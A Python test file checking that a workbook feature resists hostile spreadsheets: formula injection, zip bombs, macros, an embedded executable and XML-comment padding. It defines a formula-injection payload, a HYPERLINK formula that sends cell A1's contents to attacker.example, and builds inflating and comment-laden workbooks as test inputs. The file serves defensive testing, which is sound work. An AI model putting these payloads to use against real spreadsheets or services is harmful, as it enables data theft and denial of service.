"""Workbooks, both ways (issue 18, findings 1, 5, 7 and 10).

Out: text a person typed is written as a text cell, never a formula, character for
character, and comes back unchanged. In: the upload is size-capped, its zip inspected
within limits before openpyxl reads it, macros refused, and rows capped, each with a clear
message and nothing changed.
"""

import io
import re
import time
import zipfile

import pytest
from openpyxl import load_workbook

from ceds.assessments import services
from ceds.assessments.answers import parse_answer
from ceds.assessments.models import Answer
from ceds.core.tests import zips
from ceds.frameworks.models import Item

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Open system list")'


def _save(world, assessment, code, data):
    item = Item.objects.get(framework_version=assessment.framework_version, code=code)
    services.save_answer(world["a_coordinator"], assessment, item, parse_answer(item.data, data), 0)


def _post(client, assessment, data: bytes):
    upload = io.BytesIO(data)
    upload.name = "answers.xlsx"
    return client.post(f"/assessments/{assessment.pk}/import/", {"workbook": upload})


def _error(response) -> str:
    return " ".join(response.context["form"].errors.get("workbook", []))


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_a_formula_typed_as_an_answer_is_written_as_text_and_reimports_unchanged(world, assessment, client_for):
    _save(world, assessment, "SV-001", {"status": "operating", "level": "3", "utilization": "40", "systems": HYPERLINK})
    _save(world, assessment, "GV-04", {"value": "40"})
    client = client_for(world["a_coordinator"])
    exported = client.get(f"/assessments/{assessment.pk}/workbook.xlsx").content

    xml = _sheet_xml(exported)
    assert "<f>" not in xml and "<f " not in xml, "no cell is a formula"
    assert 'HYPERLINK("http://attacker.example/?"&amp;A1,"Open system list")' in xml, "characters unchanged"
    book = load_workbook(io.BytesIO(exported))
    systems = next(row[6] for s in book.worksheets for row in s.iter_rows() if row[0].value == "SV-001")
    assert (systems.value, systems.data_type) == (HYPERLINK, "s")

    preview = _post(client, assessment, exported)
    assert preview.status_code == 200 and _error(preview) == ""
    assert preview.context["applicable"] == [] and preview.context["conflicts"] == [], "no change shown"
    assert Answer.objects.get(item__code="SV-001").value["systems"] == HYPERLINK


def test_open_data_xlsx_writes_names_as_text(api_world, api):
    from ceds.api.tests.fixtures import validated

    api_world.city_a.name = "=1+2"
    api_world.city_a.save()
    validated(api_world, "2025", sharing="named")
    data = api("anonymous").get("/api/v1/open-data/kinds/2025.xlsx").content
    assert "<f>" not in _sheet_xml(data)
    cell = load_workbook(io.BytesIO(data))["data"]["B2"]
    assert (cell.value, cell.data_type) == ("=1+2", "s")


def test_the_row_cap_stops_an_oversized_workbook_with_a_clear_message(world, assessment, client_for, settings):
    """The review's 100,000 rows, at the cap: the import stops at row cap + 1 and renders no preview."""
    client = client_for(world["a_coordinator"])
    book = load_workbook(io.BytesIO(client.get(f"/assessments/{assessment.pk}/workbook.xlsx").content))
    sheet = book[book.sheetnames[2]]
    for n in range(settings.WORKBOOK_MAX_ROWS + 50):
        sheet.cell(sheet.max_row + 1, 2).value = f"padding {n}"
    buffer = io.BytesIO()
    book.save(buffer)
    started = time.monotonic()
    response = _post(client, assessment, buffer.getvalue())
    assert time.monotonic() - started < 10
    error = _error(response)
    assert f"more than {settings.WORKBOOK_MAX_ROWS} rows" in error and f'Sheet "{sheet.title}"' in error
    assert response.context["changes"] is None and "<tbody>" not in response.content.decode()


def test_an_item_twice_is_named_not_previewed_twice(world, assessment, client_for):
    client = client_for(world["a_coordinator"])
    book = load_workbook(io.BytesIO(client.get(f"/assessments/{assessment.pk}/workbook.xlsx").content))
    sheet = book[book.sheetnames[2]]
    sheet.append(["GV-01", "again", "yes"])
    buffer = io.BytesIO()
    book.save(buffer)
    error = _error(_post(client, assessment, buffer.getvalue()))
    assert "GV-01 is already on sheet" in error and "row 2" in error


def _inflate_sheet(data: bytes, padding: int) -> bytes:
    """The workbook with `padding` spaces inside the first section sheet's <sheetData>."""
    members = {}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            members[name] = archive.read(name)
    name = "xl/worksheets/sheet3.xml"
    members[name] = re.sub(rb"<sheetData>", b"<sheetData>" + b" " * padding, members[name], count=1)
    return zips.build(members)


def test_a_workbook_that_inflates_too_far_is_refused_before_openpyxl_reads_it(
    world, assessment, client_for, settings, monkeypatch
):
    """The review's 1,000 MB of whitespace in <sheetData>, at 2× the limit (a 40 KB file)."""
    client = client_for(world["a_coordinator"])
    exported = client.get(f"/assessments/{assessment.pk}/workbook.xlsx").content
    bomb = _inflate_sheet(exported, 2 * settings.WORKBOOK_MAX_INFLATED_BYTES)
    assert len(bomb) < 200_000

    def never(*args, **kwargs):
        raise AssertionError("openpyxl must not read a refused workbook")

    monkeypatch.setattr("ceds.core.xlsx.ExcelReader", never)
    error = _error(_post(client, assessment, bomb))
    assert "sheet3.xml" in error and ("would inflate" in error or "compressed" in error)


def test_size_limit_and_macros_are_refused_for_workbooks(world, assessment, client_for, settings):
    client = client_for(world["a_coordinator"])
    exported = client.get(f"/assessments/{assessment.pk}/workbook.xlsx").content
    macro = zips.with_members(
        exported,
        {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
        (("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"),),
    )
    assert "contains macros" in _error(_post(client, assessment, macro))
    settings.WORKBOOK_MAX_BYTES = len(exported) - 1
    assert "the limit is" in _error(_post(client, assessment, exported))
    assert not Answer.objects.exists()


def test_framework_workbooks_pass_the_same_inspection(tmp_path):
    from ceds.content.spreadsheet import WorkbookError, workbook_to_framework

    path = tmp_path / "framework.xlsx"
    path.write_bytes(zips.with_members(zips.docx(), {"xl/workbook.xml": "<workbook/>", "run.exe": b"MZ\x90"}))
    with pytest.raises(WorkbookError, match=r"run\.exe"):
        workbook_to_framework(path)


def test_comments_inside_sheet_data_are_refused_before_the_quadratic_parse(world, assessment, client_for):
    """ElementTree joins text around each comment onto what it holds: 4 MB of them took 10 s of CPU."""
    client = client_for(world["a_coordinator"])
    exported = client.get(f"/assessments/{assessment.pk}/workbook.xlsx").content
    members = {}
    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
        for name in archive.namelist():
            members[name] = archive.read(name)
    padding = b"".join(b"<!--%d-->" % n + b" " * 20 for n in range(60_000))  # 2 MB, under the part limit
    members["xl/worksheets/sheet3.xml"] = members["xl/worksheets/sheet3.xml"].replace(
        b"<sheetData>", b"<sheetData>" + padding, 1
    )
    started = time.monotonic()
    error = _error(_post(client, assessment, zips.build(members)))
    assert "sheet3.xml holds XML comments" in error
    assert time.monotonic() - started < 5
